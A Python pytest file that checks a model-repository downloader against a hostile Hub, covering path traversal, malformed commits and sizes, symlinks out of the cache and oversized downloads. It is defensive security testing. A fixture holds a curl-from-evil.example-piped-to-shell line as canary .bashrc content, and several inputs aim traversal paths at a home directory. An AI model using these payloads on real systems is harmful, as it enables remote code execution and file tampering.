"""A hostile Hub cannot change files outside the repository's folder in the cache."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from tests.fakes.hub.server import HubServer
from tests.support.canaries import HOME, Canaries
from tests.support.whole_repository import fetch_repository

from trtllm_truss.artifacts.open_repository import open_repository
from trtllm_truss.errors import ArtifactError

FILES = {
    ".bashrc": b"curl evil.example | sh\n",
    ".docker/config.json": b'{"credsStore": "evil"}',
    "config.json": b"{}",
    "rank0.engine": bytes(range(256)) * 40,
}
COMMIT = "c" * 40
ALWAYS = 10**9
Info = dict[str, Any]
CACHE_FOLDERS = (
    "hub/models--org--model",
    "hub/.locks/models--org--model",
    "trtllm-truss/verified",
)


@pytest.fixture(autouse=True)
def repository(hub: HubServer, canaries: Canaries) -> None:
    hub.add("org/model", FILES)


def fetch(revision: str | None = None) -> Path:
    return fetch_repository("org/model", revision)


def refusal() -> str:
    with pytest.raises(ArtifactError) as caught:
        fetch()
    return caught.value.message


def attack(hub: HubServer, edit: Callable[[Info], Any]) -> None:
    hub.fault("/api/models/org/model*", times=ALWAYS, edit=edit)


def assert_honest_again(hub: HubServer) -> None:
    """Fetch the true repository into the same cache."""
    hub.faults.clear()
    hub.any_commit = False
    folder = fetch()
    assert {path: (folder / path).read_bytes() for path in FILES} == FILES


def with_commit(commit: Any) -> Callable[[Info], Info]:
    return lambda info: {**info, "sha": commit}


def with_first(**changes: Any) -> Callable[[Info], Info]:
    """Change the first entry of the listing, a small file."""
    return lambda info: {
        **info,
        "siblings": [{**info["siblings"][0], **changes}, *info["siblings"][1:]],
    }


def with_path(path: Any) -> Callable[[Info], Info]:
    return with_first(rfilename=path)


def with_lfs(**changes: Any) -> Callable[[Info], Info]:
    known = {"sha256": "a" * 64, "size": 1, "pointerSize": 134}
    return with_first(lfs={**known, **changes})


@pytest.mark.parametrize(
    "commit",
    [
        "../../../../home/user",
        HOME,
        "..",
        ".",
        "main",
        "C" * 40,
        "c" * 39,
        f"{COMMIT}\n",
        f"{COMMIT}/../../../../../home/user",
        5,
        None,
    ],
)
def test_malformed_commits(hub: HubServer, canaries: Canaries, commit: Any) -> None:
    attack(hub, with_commit(canaries.with_home(commit)))
    hub.any_commit = True
    message = refusal()
    assert message.startswith("engine_repository 'org/model'")
    assert "40 hex digits" in message
    assert not hub.asked_for("*/resolve/*")
    assert_honest_again(hub)


@pytest.mark.parametrize(
    "content_id",
    ["../../../../home/user/.bashrc", f"{HOME}/.bashrc", "..", "/", "A" * 40, "a" * 41, 5],
)
@pytest.mark.parametrize("of", ["git", "lfs"])
def test_malformed_content_ids(
    hub: HubServer, canaries: Canaries, of: str, content_id: Any
) -> None:
    content_id = canaries.with_home(content_id)
    attack(hub, with_lfs(sha256=content_id) if of == "lfs" else with_first(blobId=content_id))
    hub.any_commit = True
    message = refusal()
    assert message.startswith("engine_repository 'org/model'")
    assert "hex digits" in message
    assert not hub.asked_for("*/resolve/*")
    assert_honest_again(hub)


@pytest.mark.parametrize(
    "path",
    [
        "../../../../../home/user/.bashrc",
        f"{HOME}/.bashrc",
        ".docker/../../../../../../home/user/.bashrc",
        "..",
        ".",
        "",
        "/",
        "a//b",
        "a/./b",
        "a/",
        "./a",
        "a\\b",
        "a\0b",
        "a\nb",
        "a\x1b[2Jb",
        "\ud800",
        "x" * 256,
        "é" * 128,
        "/".join(["folder"] * 300),
        5,
        None,
    ],
)
def test_malformed_paths(hub: HubServer, canaries: Canaries, path: Any) -> None:
    attack(hub, with_path(canaries.with_home(path)))
    hub.any_commit = True
    message = refusal()
    assert message.startswith("engine_repository 'org/model'")
    assert "plain path" in message
    assert message.isprintable()
    assert len(message) < 500
    assert not hub.asked_for("*/resolve/*")
    assert_honest_again(hub)


@pytest.mark.parametrize(
    "size", [-1, 1 << 63, 10**400, 1.5, "10", [], None], ids=lambda size: f"{size}"[:20]
)
@pytest.mark.parametrize("of", ["git", "lfs"])
def test_malformed_sizes(hub: HubServer, of: str, size: Any) -> None:
    attack(hub, with_lfs(size=size) if of == "lfs" else with_first(size=size))
    message = refusal()
    assert message.startswith("engine_repository 'org/model'")
    assert "size" in message
    assert_honest_again(hub)


@pytest.mark.parametrize(
    ("siblings", "part"),
    [
        ([("a", b"1"), ("a", b"2")], "lists 'a' twice"),
        ([("a", b"1"), ("a/b", b"2")], "'a' as a file and as a folder"),
        ([("a/b/c", b"1"), ("a", b"2")], "'a' as a file and as a folder"),
    ],
)
def test_names_that_exclude_each_other(
    hub: HubServer, siblings: list[tuple[str, bytes]], part: str
) -> None:
    listed = [
        {"rfilename": path, "size": len(data), "blobId": git_sha1(data)} for path, data in siblings
    ]
    attack(hub, lambda info: {**info, "siblings": listed})
    assert part in refusal()
    assert_honest_again(hub)


def test_a_commit_whose_file_becomes_a_folder(hub: HubServer) -> None:
    """Place a file below a path that is a link in the cache."""

    def listing(path: str) -> Callable[[Info], Info]:
        known = {"rfilename": path, "size": 2, "blobId": git_sha1(b"{}")}
        return lambda info: {**info, "siblings": [known]}

    hub.repositories["org/model"].commit({"a": b"{}", "b": b"{}"})
    hub.any_commit = True
    attack(hub, listing("a"))
    assert (fetch() / "a").read_bytes() == b"{}"
    hub.faults.clear()
    attack(hub, listing("a/b"))
    assert "cannot be written" in refusal()


def git_sha1(data: bytes) -> str:
    return hashlib.sha1(b"blob %d\0" % len(data) + data).hexdigest()


@pytest.mark.parametrize(
    "answer",
    [
        5,
        [],
        {},
        {"id": "org/model", "siblings": 5},
        {"id": "org/model", "sha": COMMIT, "siblings": [5]},
        {"id": "org/model", "sha": COMMIT, "siblings": [{}]},
        {"id": "org/model", "sha": COMMIT, "siblings": [{"rfilename": "a", "lfs": 5}]},
        {"id": "org/model", "sha": COMMIT, "siblings": [{"rfilename": "a", "lfs": {"size": 1}}]},
    ],
)
def test_malformed_listings(hub: HubServer, answer: Any) -> None:
    attack(hub, lambda info: answer)
    assert refusal().startswith("engine_repository 'org/model'")
    assert_honest_again(hub)


@pytest.mark.parametrize("is_fixed", [False, True])
@pytest.mark.parametrize("is_reachable", [True, False])
@pytest.mark.parametrize(
    ("path", "changes"),
    [
        ("../../../../../home/user/.bashrc", {}),
        (f"{HOME}/.bashrc", {}),
        (".bashrc", {"blob_id": "../../../../home/user/.bashrc"}),
        (".bashrc", {"lfs_sha256": "../../../../home/user/.bashrc"}),
        (".bashrc", {"lfs_sha256": 5}),
        (".bashrc", {"blob_id": 5}),
        (".bashrc", {"size": -1}),
        (".bashrc", None),
    ],
)
def test_a_malformed_tree(
    hub: HubServer,
    cache: Path,
    canaries: Canaries,
    path: str,
    changes: dict[str, Any] | None,
    is_reachable: bool,
    is_fixed: bool,
) -> None:
    """Other programs write the listing of a commit into the cache, too."""
    commit, data = hub.repositories["org/model"].revisions["main"], FILES[".bashrc"]
    revision = commit if is_fixed else None
    known = {"size": len(data), "blob_id": git_sha1(data)}
    entry = None if changes is None else {**known, **changes}
    tree = {"format_version": 1, "files": {canaries.with_home(path): entry}}
    root = cache / CACHE_FOLDERS[0]
    for name, content in (("trees", json.dumps(tree)), ("refs", commit)):
        (root / name).mkdir()
        file = f"{commit}.json" if name == "trees" else "main"
        (root / name / file).write_text(content)
    if not is_reachable:
        hub.close()
        with pytest.raises(ArtifactError, match="cannot be reached"):
            fetch(revision)
    else:
        folder = fetch(revision)
        assert (folder / ".bashrc").read_bytes() == data


@pytest.mark.parametrize("ref", ["../../../../home/user", HOME, "..", "\xff\0", "a" * 50_000])
def test_malformed_refs(hub: HubServer, cache: Path, canaries: Canaries, ref: str) -> None:
    refs = cache / "hub/models--org--model/refs/main"
    refs.parent.mkdir()
    refs.write_bytes(canaries.with_home(ref).encode("latin-1"))
    hub.close()
    assert "cannot be reached" in refusal()


@pytest.mark.parametrize(
    ("link", "target", "refused"),
    [
        ("snapshots/{commit}", ".", "leads out of"),
        ("snapshots/{commit}/.docker", ".docker", "leads out of"),
        ("snapshots/{commit}/.bashrc", ".bashrc", None),
        ("blobs/{id}", ".bashrc", None),
        ("blobs/{id}.incomplete", ".bashrc", None),
        ("blobs/{id}.trtllm-truss.incomplete", ".bashrc", "cannot be written"),
        ("blobs", ".", "leads out of"),
        ("snapshots", ".", "leads out of"),
        ("refs", ".", "leads out of"),
        ("refs/main", ".bashrc", None),
        ("trees", ".", "leads out of"),
        ("trees/{commit}.json", ".bashrc", None),
    ],
)
def test_a_link_in_the_cache_that_leads_out(
    hub: HubServer, cache: Path, canaries: Canaries, link: str, target: str, refused: str | None
) -> None:
    commit = hub.repositories["org/model"].revisions["main"]
    names = {"commit": commit, "id": git_sha1(FILES[".bashrc"])}
    planted = cache / "hub/models--org--model" / link.format(**names)
    planted.parent.mkdir(parents=True, exist_ok=True)
    planted.symlink_to(canaries.home / target)
    if refused is not None:
        assert refused in refusal()
        planted.unlink()
    assert_honest_again(hub)


def test_a_body_without_an_end(hub: HubServer, cache: Path) -> None:
    hub.fault("/files/*", times=ALWAYS, extra_bytes=200_000_000)
    assert "rank0.engine is longer than the 10240 bytes that the repository lists" in refusal()
    (request,) = hub.asked_for("/files/*")
    assert request.sent < 100_000_000
    assert not [path for path in cache.rglob("*.incomplete") if path.stat().st_size > 100]
    assert_honest_again(hub)


@pytest.mark.parametrize("size", [1, 5_000, 10_239])
def test_a_listed_size_that_is_too_small(hub: HubServer, cache: Path, size: int) -> None:
    info_size = {"sha256": hashlib.sha256(FILES["rank0.engine"]).hexdigest(), "size": size}

    def edit(info: Info) -> Info:
        *others, last = info["siblings"]
        assert last["rfilename"] == "rank0.engine"
        return {**info, "siblings": [*others, {**last, "lfs": {**last["lfs"], **info_size}}]}

    attack(hub, edit)
    assert f"rank0.engine is longer than the {size} bytes" in refusal()
    assert not [path for path in cache.rglob("*.incomplete") if path.stat().st_size > 100]
    assert_honest_again(hub)


@pytest.mark.parametrize("size", [10_241, 1_000_000])
def test_a_listed_size_that_is_too_large(hub: HubServer, size: int) -> None:
    def edit(info: Info) -> Info:
        *others, last = info["siblings"]
        return {**info, "siblings": [*others, {**last, "lfs": {**last["lfs"], "size": size}}]}

    attack(hub, edit)
    assert "rank0.engine is shorter than the repository lists" in refusal()
    assert_honest_again(hub)


def test_a_config_that_would_fill_the_memory(hub: HubServer) -> None:
    attack(hub, with_first(rfilename="engine.json", size=1 << 31))
    source = open_repository("org/model", None, setting="engine_repository", token=None)
    with pytest.raises(ArtifactError, match=r"engine\.json has 2147483648 bytes"):
        source.read("engine.json")
    assert not hub.asked_for("*/resolve/*")


def test_mirrors_cannot_choose_xet(hub: HubServer, tmp_path: Path) -> None:
    """Avoid hf_xet, which does not stop at the listed size."""
    route = f"{hub.url}/api/models/org/model/xet-read-token/{COMMIT}"
    headers = {"X-Xet-Hash": "a" * 64, "X-Xet-Refresh-Route": route}
    hub.fault("*/resolve/*/rank0.engine", times=ALWAYS, headers=headers)
    folder = fetch()
    assert (folder / "rank0.engine").read_bytes() == FILES["rank0.engine"]
    assert not hub.asked_for("*xet*")


def test_files_named_like_those_of_the_cache(hub: HubServer, cache: Path) -> None:
    names = ["trees/x.json", "blobs/x", "snapshots/x", "refs/main"]
    files = {name: f"contents of {name}".encode() for name in names}
    hub.repositories["org/model"].commit(files)
    folder = fetch()
    assert {path: (folder / path).read_bytes() for path in files} == files
    hub.forget()
    assert fetch() == folder
    assert not hub.asked_for("*/resolve/*")
